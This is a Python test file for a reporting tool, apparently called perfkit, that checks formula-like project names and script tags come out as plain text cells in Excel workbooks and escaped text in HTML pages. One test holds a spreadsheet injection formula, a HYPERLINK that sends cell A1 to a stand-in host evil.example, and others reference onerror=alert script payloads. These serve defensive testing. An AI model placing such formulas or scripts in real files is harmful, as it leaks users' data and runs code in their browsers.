"""Hostile content in outputs: text from documents never becomes a formula or a script.

A unit whose project names start with ``=``, ``+``, ``-``, ``@`` or hold a ``<script>`` goes through
``perfkit template`` and ``perfkit batch`` (see :mod:`tests.hostile`); every workbook must hold that
text as string cells, and every HTML page must show it escaped.
"""

from __future__ import annotations

import html

import openpyxl
import pytest

from tests.hostile import (
    HOSTILE_TEXTS,
    INDICATOR_NAME,
    PROJECT_NAMES,
    SCRIPT,
    TARGET,
    UNIT,
    UNIT_NAME,
    batch_folders,
    completed_batch,
)


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    return completed_batch(tmp_path_factory.getbasetemp())


def text_cells(path) -> dict[str, list]:
    """Every cell of every sheet that holds text or a formula, by value."""
    cells: dict[str, list] = {}
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells.setdefault(cell.value, []).append(cell)
    return cells


def assert_all_text(path, expected: list[str]) -> None:
    """No cell of ``path`` is a formula, and each of ``expected`` is there as a string cell."""
    cells = text_cells(path)
    formulas = [f"{c.parent.title}!{c.coordinate}" for found in cells.values() for c in found if c.data_type != "s"]
    assert not formulas, f"formula cells in {path.name}: {formulas}"
    missing = [text for text in expected if text not in cells]
    assert not missing, f"{path.name} lacks {missing}"


def test_a_formula_like_project_name_is_a_string_cell_in_the_unit_workbook(batch):
    book = openpyxl.load_workbook(batch / UNIT / f"{UNIT}-审计底稿.xlsx")
    sheet = book["项目"]
    header = [c.value for c in sheet[1]]
    names = [row[header.index("项目名称")] for row in sheet.iter_rows(min_row=2)]
    hyperlink = next(c for c in names if c.value == PROJECT_NAMES[0])
    assert hyperlink.data_type == "s"
    assert hyperlink.value == '=HYPERLINK("http://evil.example/?"&A1,"2025年点击查看")'


def test_unit_workbook_holds_every_hostile_text_as_text(batch):
    assert_all_text(batch / UNIT / f"{UNIT}-审计底稿.xlsx", HOSTILE_TEXTS)


def test_actuals_template_holds_every_hostile_text_as_text(batch, tmp_path_factory):
    inputs, _ = batch_folders(tmp_path_factory.getbasetemp())
    assert_all_text(inputs / "actuals.xlsx", [*PROJECT_NAMES, INDICATOR_NAME, TARGET])  # no descriptions there
    about = openpyxl.load_workbook(inputs / "actuals.xlsx")["说明"]
    source = next(c for c in about["B"] if str(c.value).startswith("=targets.txt"))
    assert source.data_type == "s"


def test_portfolio_workbook_holds_the_names_as_text(batch):
    assert_all_text(batch / "portfolio.xlsx", PROJECT_NAMES)


@pytest.mark.parametrize("page", [f"{UNIT}/{UNIT}.html", "index.html", "portfolio.html"])
def test_html_outputs_escape_scripts_and_markup(batch, page):
    text = (batch / page).read_text(encoding="utf-8")
    assert SCRIPT not in text and UNIT_NAME not in text
    assert "onerror=alert" not in text.replace("onerror=alert(2)&gt;", "")  # only as escaped text
    assert html.escape(UNIT_NAME, quote=False) in text  # the unit name is shown, escaped


def test_unit_report_shows_the_project_names_escaped(batch):
    text = (batch / UNIT / f"{UNIT}.html").read_text(encoding="utf-8")
    assert html.escape(PROJECT_NAMES[4], quote=False) in text
    assert (
        PROJECT_NAMES[5] == "$\\frac{$2025年项目" and PROJECT_NAMES[5] in text
    )  # the unit ran: its charts drew it as text
